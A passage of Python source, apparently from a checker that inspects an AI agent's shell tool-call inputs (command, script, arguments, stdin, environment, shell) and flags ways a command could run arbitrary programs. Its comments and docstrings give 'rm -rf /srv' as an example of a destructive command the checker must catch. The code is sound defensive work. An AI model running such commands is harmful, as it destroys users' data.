        # is also judged as written), so a false `cwd` hides nothing.
        given = action.input
        cwd = given.get("cwd")
        start = cwd if isinstance(cwd, str) and cwd.startswith(("/", "~")) else None
        # Every field a runner may take the command from counts (`{"command": "ls", "script":
        # "rm -rf /srv"}`), with the arguments, input, environment and shell given beside it.
        found: list[Effect] = [*_beside(given)]
        extra = _arguments(given)
        stdin = next((given[k] for k in _STDIN_KEYS if k in given), None)
        seen = False
        for key in ("command", "cmd", "script"):
            value = given.get(key)
            if isinstance(value, list) and all(isinstance(v, str) for v in value):
                value = " ".join(shlex_quote(v) for v in value)
            if not isinstance(value, str):
                continue
            seen = True
            text = f"{value} {extra}" if extra else value
            if isinstance(stdin, str) and stdin:  # what the command reads, as a here-string
                fed = f"<<< {shlex_quote(stdin)}"
                text = f"{text} {fed}" if not _COMPOUND.search(text) else f"{{ {text}\n}} {fed}"
            found.extend(analyze(text, key, cwd=start))
        if not seen:
            return [commands.dynamic("no command in the input", None)]
        return found


#: Input fields through which a runner may feed the command its input.
_STDIN_KEYS = ("stdin", "input")
#: Text joining several commands: a here-string given beside it goes to the group.
_COMPOUND = re.compile(r"[;&|\n`$()<>{}]")
_SHELL_NAMES = frozenset({"sh", "bash", "dash", "zsh", "ksh", "ash", "busybox"})


def _arguments(given: Mapping[str, object]) -> str:
    """``{"command": "rm", "args": ["-rf", "/srv"]}``: the arguments a runner appends."""
    for key in ("args", "argv", "arguments"):
        value = given.get(key)
        if isinstance(value, str):
            return shlex_quote(value)
        if isinstance(value, list):
            return " ".join(shlex_quote(v) if isinstance(v, str) else "$X" for v in value)
    return ""


def _beside(given: Mapping[str, object]) -> list[Effect]:
    """What an environment or a shell given beside the command can make it run."""
    out: list[Effect] = []
    for key in ("env", "environment", "envs", "env_vars"):
        value = given.get(key)
        if isinstance(value, Mapping):
            runs = sorted(str(k) for k in value if commands.runs_program(str(k)))
            if runs:
                why = f"the input's {key} sets {', '.join(runs)}, which can make it run any program"
                out.append(commands.dynamic(why, None))
        elif value is not None and not isinstance(value, str):
            out.append(commands.dynamic(f"the input's {key} is not a mapping of names", None))
    shell = given.get("shell")
    if shell is not None and not (
        isinstance(shell, bool)
        or (isinstance(shell, str) and posixpath.basename(shell) in _SHELL_NAMES)
    ):
        out.append(commands.dynamic(f"the command runs under {shell!r}, not a shell", None))
    return out
